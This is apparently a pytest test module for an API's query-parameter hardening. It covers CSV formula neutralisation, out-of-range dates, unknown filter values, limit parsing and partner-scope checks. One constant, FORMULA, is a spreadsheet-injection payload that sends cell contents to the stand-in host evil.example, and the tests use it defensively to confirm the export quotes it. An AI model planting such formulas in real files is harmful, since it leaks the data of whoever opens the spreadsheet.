"""Hardening of the read API's query parameters (issue 10, items 2, 3 and 6), on both stores:
formula cells in the CSV export, dates that would overflow, unknown filter values, lax limits,
and a partner key naming another partner."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from api.app import create_app
from api.settings import Settings
from domain.access import issue_key
from domain.decider import EVENTS
from domain.vocabulary import Risk, Role, Stage
from tests.api.conftest import ORIGINAL, PARTNER_A, PARTNER_B
from tests.conftest import sqlite_env

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_rows(api, who: str, **params: Any) -> list[dict[str, str]]:
    with api.client.stream(
        "GET", "/v1/audit/export", params={"format": "csv", **params}, headers=api.auth(who)
    ) as response:
        assert response.status_code == 200
        text = "".join(response.iter_text())
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def stocked(api):
    """Partner A: one migration with an original; partner B: one migration."""
    a = api.new_migration()["id"]
    assert api.event(a, ORIGINAL).status_code == 201
    b = api.new_migration("admin_b")["id"]
    api.settle()
    api.ids = {"a": a, "b": b}
    return api


# -- item 2: CSV formula injection -------------------------------------------------------------
class TestCsvExportNeutralisesFormulas:
    @pytest.fixture
    def poisoned(self, api):
        """A key whose name is a formula, and a request whose correlation id is one."""
        api.tokens["evil"] = issue_key(api.tracker, FORMULA, "sales_agent", PARTNER_A).token
        response = api.post(
            "evil",
            "/v1/migrations",
            {
                "tenant_id": "contoso.onmicrosoft.com",
                "customer_name": "=1+1",
                "customer_region": "europe",
                "channel": "direct",
            },
            **{"X-Correlation-ID": "=1+1"},
        )
        assert response.status_code == 201, response.text
        api.settle()
        return api

    @pytest.mark.parametrize("who", ["auditor", "admin_a"])
    def test_formula_cells_are_quoted(self, poisoned, who):
        (row,) = _csv_rows(poisoned, who)
        assert row["principal"] == "'" + FORMULA
        assert row["correlation_id"] == "'=1+1"
        # The payload is JSON text, starting with "{": left as it is.
        assert json.loads(row["payload"])["customer_name"] == "=1+1"

    def test_no_cell_of_the_export_starts_a_formula(self, poisoned):
        for row in _csv_rows(poisoned, "auditor"):
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (column, cell)

    def test_json_lines_are_unchanged(self, poisoned):
        response = poisoned.get("auditor", "/v1/audit/export", params={"format": "jsonl"})
        (line,) = [json.loads(text) for text in response.text.splitlines()]
        assert line["principal"] == FORMULA
        assert line["correlation_id"] == "=1+1"


# -- item 3: dates that would overflow ---------------------------------------------------------
OUT_OF_RANGE = [
    ("/v1/audit", "recorded_from", "0001-01-01"),
    ("/v1/audit", "recorded_to", "9999-12-31T23:59:59.999999-23:59"),
    ("/v1/audit", "recorded_from", "9999-12-31T23:59:59.999999+23:59"),
    ("/v1/audit", "recorded_to", "0001-01-01T00:00:00+01:00"),
    ("/v1/audit", "recorded_from", "1989-12-31T23:59:59Z"),
    # The year as written counts (the schema's pattern says so): 2200 in UTC, but 2201 here.
    ("/v1/audit", "recorded_to", "2201-01-01T03:00:00+05:00"),
    ("/v1/audit/export", "recorded_from", "0001-01-01"),
    ("/v1/audit/export", "recorded_to", "9999-12-31T23:59:59.999999-23:59"),
    ("/v1/migrations", "term_end_before", "0001-01-01"),
    ("/v1/migrations", "term_end_before", "9999-12-31"),
]


class TestDatesOutOfRange:
    def test_every_date_parameter_answers_422_naming_the_field(self, stocked):
        for path, name, value in OUT_OF_RANGE:
            response = stocked.get("auditor", path, params={name: value})
            assert response.status_code == 422, (path, name, value, response.text)
            body = response.json()
            assert body["error"] == "validation_error", body
            assert name in body["message"], body
            assert body["details"]["errors"][0]["loc"] == ["query", name], body

    def test_the_export_refuses_before_it_starts_streaming(self, stocked):
        with stocked.client.stream(
            "GET",
            "/v1/audit/export",
            params={"recorded_to": "9999-12-31T23:59:59.999999-23:59"},
            headers=stocked.auth("auditor"),
        ) as response:
            assert response.status_code == 422
            assert json.loads(response.read())["error"] == "validation_error"

    @pytest.mark.parametrize(
        "value",
        [
            "1990-01-01",
            "1990-01-01T00:00:00Z",
            "2200-12-31T23:59:59.999999+00:00",
            "2200-12-31T20:00:00-05:00",  # 2201 in UTC: the year as written counts
        ],
    )
    def test_times_at_the_edges_of_the_range_are_accepted(self, stocked, value):
        for name in ("recorded_from", "recorded_to"):
            assert stocked.get("auditor", "/v1/audit", params={name: value}).status_code == 200
        edge = value[:10]
        response = stocked.get("auditor", "/v1/migrations", params={"term_end_before": edge})
        assert response.status_code == 200

    def test_a_time_without_a_zone_is_utc(self, stocked, monkeypatch):
        # West of UTC: read as local time, a naive time would move 10 hours later.
        monkeypatch.setenv("TZ", "Pacific/Honolulu")
        time.tzset()
        try:
            (row, *_) = stocked.get("auditor", "/v1/audit").json()["items"]
            naive = row["recorded_at"].removesuffix("+00:00")
            assert naive != row["recorded_at"]
            since = stocked.get("auditor", "/v1/audit", params={"recorded_from": naive}).json()
            assert row["position"] in {r["position"] for r in since["items"]}
            before = stocked.get("auditor", "/v1/audit", params={"recorded_to": naive}).json()
            assert row["position"] not in {r["position"] for r in before["items"]}
            # The same rule below the API (the CLI's export calls the queries directly).
            queries = stocked.client.app.state.read_side.queries
            at = datetime.fromisoformat(naive)
            assert row["position"] in {r["position"] for r in queries.audit(recorded_from=at)[0]}
            assert row["position"] not in {r["position"] for r in queries.audit(recorded_to=at)[0]}
        finally:
            monkeypatch.undo()
            time.tzset()

    def test_descriptions_state_the_time_zone_rule(self, stocked):
        schema = stocked.client.get("/openapi.json").json()
        for path, name in [
            ("/v1/audit", "recorded_from"),
            ("/v1/audit", "recorded_to"),
            ("/v1/audit/export", "recorded_from"),
            ("/v1/audit/export", "recorded_to"),
        ]:
            assert "without a zone is read as UTC" in _param(schema, path, name)["description"]
        term = _param(schema, "/v1/migrations", "term_end_before")["description"]
        assert "no time zone" in term and "1990..2200" in term


# -- item 6: unknown filter values, lax limits, another partner --------------------------------
def _param(schema: dict, path: str, name: str) -> dict:
    (param,) = [p for p in schema["paths"][path]["get"]["parameters"] if p["name"] == name]
    return param


def _enum(schema: dict, path: str, name: str) -> set[str]:
    """The allowed values of a query parameter, following $ref and anyOf [.., null]."""
    found: set[str] = set()

    def walk(node: dict) -> None:
        if "$ref" in node:
            node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
        found.update(node.get("enum", ()))
        for option in node.get("anyOf", ()):
            walk(option)

    walk(_param(schema, path, name)["schema"])
    return found


UNKNOWN_FILTERS = [
    ("/v1/migrations", "stage", [s.value for s in Stage]),
    ("/v1/migrations", "risk", [r.value for r in Risk]),
    ("/v1/audit", "event_type", list(EVENTS)),
    ("/v1/audit", "role", [r.value for r in Role]),
    ("/v1/audit/export", "event_type", list(EVENTS)),
    ("/v1/audit/export", "role", [r.value for r in Role]),
]


class TestUnknownFilterValues:
    def test_unknown_values_answer_422_listing_the_allowed_ones(self, stocked):
        for path, name, allowed in UNKNOWN_FILTERS:
            response = stocked.get("auditor", path, params={name: "nope"})
            assert response.status_code == 422, (path, name, response.text)
            body = response.json()
            assert body["error"] == "validation_error"
            assert body["details"]["errors"][0]["loc"] == ["query", name]
            assert body["details"]["allowed"] == allowed
            assert all(value in body["message"] for value in allowed), body["message"]

    def test_known_values_still_filter(self, stocked):
        rows = stocked.get("auditor", "/v1/audit", params={"event_type": "relationship_requested"})
        assert {r["event_type"] for r in rows.json()["items"]} == {"relationship_requested"}
        rows = stocked.get("auditor", "/v1/audit", params={"role": "account_admin"}).json()
        assert {r["principal"] for r in rows["items"]} == {"admin-a", "admin-b"}
        invited = stocked.get("auditor", "/v1/migrations", params={"stage": "invited"}).json()
        assert {m["id"] for m in invited["items"]} == set(stocked.ids.values())
        risky = stocked.get("auditor", "/v1/migrations", params={"risk": "auto_renew_on"})
        assert risky.status_code == 200

    def test_limit_must_be_digits(self, stocked):
        for path in ("/v1/migrations", "/v1/audit", "/v1/migrations/{a}/history"):
            url = path.format(**stocked.ids)
            for limit in ("1.0", "1e1", " 5", "+5", "5_0", "\u0665"):
                response = stocked.get("auditor", url, params={"limit": limit})
                assert response.status_code == 422, (url, limit, response.text)
                assert response.json()["details"]["errors"][0]["loc"] == ["query", "limit"]
            assert stocked.get("auditor", url, params={"limit": "5"}).status_code == 200


def test_openapi_shows_the_filters_as_enums(tmp_path: Path):
    app = create_app(Settings(demo_on_empty=False), env=sqlite_env(tmp_path / "t.db"))
    schema = app.openapi()
    for path, name, allowed in UNKNOWN_FILTERS:
        assert _enum(schema, path, name) == set(allowed), (path, name)
    for path in ("/v1/migrations", "/v1/audit", "/v1/migrations/{migration_id}/history"):
        limit = _param(schema, path, "limit")["schema"]
        assert (limit["type"], limit["minimum"], limit["maximum"]) == ("integer", 1, 500)


class TestPartnerScope:
    @pytest.mark.parametrize("path", ["/v1/migrations", "/v1/audit", "/v1/audit/export"])
    @pytest.mark.parametrize(("who", "other"), [("admin_a", PARTNER_B), ("auditor_b", PARTNER_A)])
    def test_a_partner_key_naming_another_partner_is_403(self, stocked, path, who, other):
        response = stocked.get(who, path, params={"partner_id": other})
        assert response.status_code == 403
        assert response.json()["error"] == "partner_scope"

    def test_naming_its_own_partner_is_allowed(self, stocked):
        params = {"partner_id": PARTNER_A}
        migrations = stocked.get("admin_a", "/v1/migrations", params=params).json()["items"]
        assert {m["id"] for m in migrations} == {stocked.ids["a"]}
        rows = stocked.get("admin_a", "/v1/audit", params=params).json()["items"]
        assert {r["partner_id"] for r in rows} == {PARTNER_A}
        assert {r["partner_id"] for r in _csv_rows(stocked, "admin_a", **params)} == {PARTNER_A}

    def test_an_auditor_may_name_any_partner(self, stocked):
        params = {"partner_id": PARTNER_B}
        migrations = stocked.get("auditor", "/v1/migrations", params=params).json()["items"]
        assert {m["id"] for m in migrations} == {stocked.ids["b"]}
        rows = stocked.get("auditor", "/v1/audit", params=params).json()["items"]
        assert {r["partner_id"] for r in rows} == {PARTNER_B}

    def test_the_rule_is_in_the_parameter_description(self, stocked):
        schema = stocked.client.get("/openapi.json").json()
        for path in ("/v1/migrations", "/v1/audit", "/v1/audit/export"):
            assert "403 `partner_scope`" in _param(schema, path, "partner_id")["description"]


def test_a_cursor_that_no_page_returned_is_422(api):
    for cursor in ("garbage", "AAAA", "0" * 36):
        response = api.get("admin_a", "/v1/migrations", params={"cursor": cursor})
        assert response.status_code == 422, (cursor, response.text)
